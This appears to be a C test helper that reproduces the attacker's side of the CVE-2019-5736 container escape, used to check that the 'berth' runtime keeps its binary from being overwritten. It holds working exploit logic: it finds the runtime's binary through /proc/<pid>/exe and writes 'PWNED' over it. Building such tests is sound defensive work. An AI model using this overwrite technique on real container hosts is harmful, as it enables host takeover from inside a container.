/* exe-watch: the attacker's side of CVE-2019-5736, run inside a container by
 * tests/integration/test_exe_protection.sh (built there with cc -static).
 *
 *   exe-watch DEV INO GOFILE TIMEOUT_MS FIFO
 *
 * Polls every process it can see; for each whose /proc/<pid>/exe is the file DEV:INO (a decoy copy
 * of berth), prints GOT-DECOY, tries to open it for writing at once (OPEN-W-NOW / OPEN-RW-NOW) and
 * keeps an O_PATH descriptor. Once GOFILE exists (the decoy berth has exited) or after TIMEOUT_MS,
 * reopens every kept descriptor through /proc/self/fd/N for writing and writes over the start of the
 * file (WROTE-DECOY). Any other exe it can open is listed once as SAW-EXE <pid> <link>, and a write
 * through the trampoline's memfd that succeeds is WROTE-MEMFD. Prints "watch-done" last.
 * The attack passes `--log FIFO` to the berth it starts, so that berth blocks opening its log
 * until the watcher has looked (it opens FIFO for reading once it holds the exe, or after 3 s). */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 64

static int held[MAX_HELD];
static int n_held;
static int seen_pid[4096];
static int n_seen;

static long now_ms(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static int seen(int pid)
{
	for (int i = 0; i < n_seen; i++)
		if (seen_pid[i] == pid)
			return 1;
	if (n_seen < 4096)
		seen_pid[n_seen++] = pid;
	return 0;
}

static void try_pid(int pid, dev_t dev, ino_t ino)
{
	char path[64], link[256];
	struct stat st;
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	int fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0 || fstat(fd, &st) < 0) {
		if (fd >= 0)
			close(fd);
		return;
	}
	if (st.st_dev != dev || st.st_ino != ino) {
		if (!seen(pid)) {
			ssize_t n = readlink(path, link, sizeof(link) - 1);
			link[n > 0 ? n : 0] = 0;
			printf("SAW-EXE %d %s\n", pid, link);
			/* The trampoline's memfd is sealed: a write must fail. */
			int w = strstr(link, "memfd:") ? open(path, O_WRONLY | O_CLOEXEC) : -1;
			if (w >= 0 && pwrite(w, "X", 1, 0) == 1)
				printf("WROTE-MEMFD %d\n", pid);
			if (w >= 0)
				close(w);
		}
		close(fd);
		return;
	}
	if (seen(-pid)) { /* already holding this one */
		close(fd);
		return;
	}
	printf("GOT-DECOY %d\n", pid);
	int w = open(path, O_WRONLY | O_CLOEXEC);
	printf("OPEN-W-NOW %s\n", w >= 0 ? "ok" : strerror(errno));
	if (w >= 0)
		close(w);
	w = open(path, O_RDWR | O_CLOEXEC);
	printf("OPEN-RW-NOW %s\n", w >= 0 ? "ok" : strerror(errno));
	if (w >= 0)
		close(w);
	if (n_held < MAX_HELD)
		held[n_held++] = fd;
	else
		close(fd);
	fflush(stdout);
}

static void scan(dev_t dev, ino_t ino)
{
	DIR *d = opendir("/proc");
	struct dirent *de;
	if (!d)
		return;
	while ((de = readdir(d))) {
		int pid = atoi(de->d_name);
		if (pid > 0 && pid != getpid())
			try_pid(pid, dev, ino);
	}
	closedir(d);
}

int main(int argc, char **argv)
{
	if (argc != 6) {
		fprintf(stderr, "usage: exe-watch DEV INO GOFILE TIMEOUT_MS FIFO\n");
		return 2;
	}
	setvbuf(stdout, NULL, _IOLBF, 0);
	dev_t dev = (dev_t)strtoull(argv[1], NULL, 0);
	ino_t ino = (ino_t)strtoull(argv[2], NULL, 0);
	long start = now_ms(), deadline = start + atol(argv[4]);
	int fifo = -1;
	printf("watch-start\n");
	while (access(argv[3], F_OK) != 0 && now_ms() < deadline) {
		scan(dev, ino);
		if (fifo < 0 && (n_held > 0 || now_ms() - start > 3000))
			fifo = open(argv[5], O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	}
	/* Give the decoy's last process a moment to be gone (ETXTBSY otherwise). */
	for (int i = 0; i < n_held; i++) {
		char p[64];
		snprintf(p, sizeof(p), "/proc/self/fd/%d", held[i]);
		int w = -1;
		for (int t = 0; t < 50 && w < 0; t++) {
			w = open(p, O_WRONLY | O_CLOEXEC);
			if (w < 0 && errno == ETXTBSY)
				usleep(20000);
			else
				break;
		}
		if (w >= 0 && pwrite(w, "PWNED", 5, 0) == 5)
			printf("WROTE-DECOY\n");
		else
			printf("WRITE-LATER-FAILED %s\n", strerror(errno));
		if (w >= 0)
			close(w);
	}
	printf("watch-done\n");
	return 0;
}
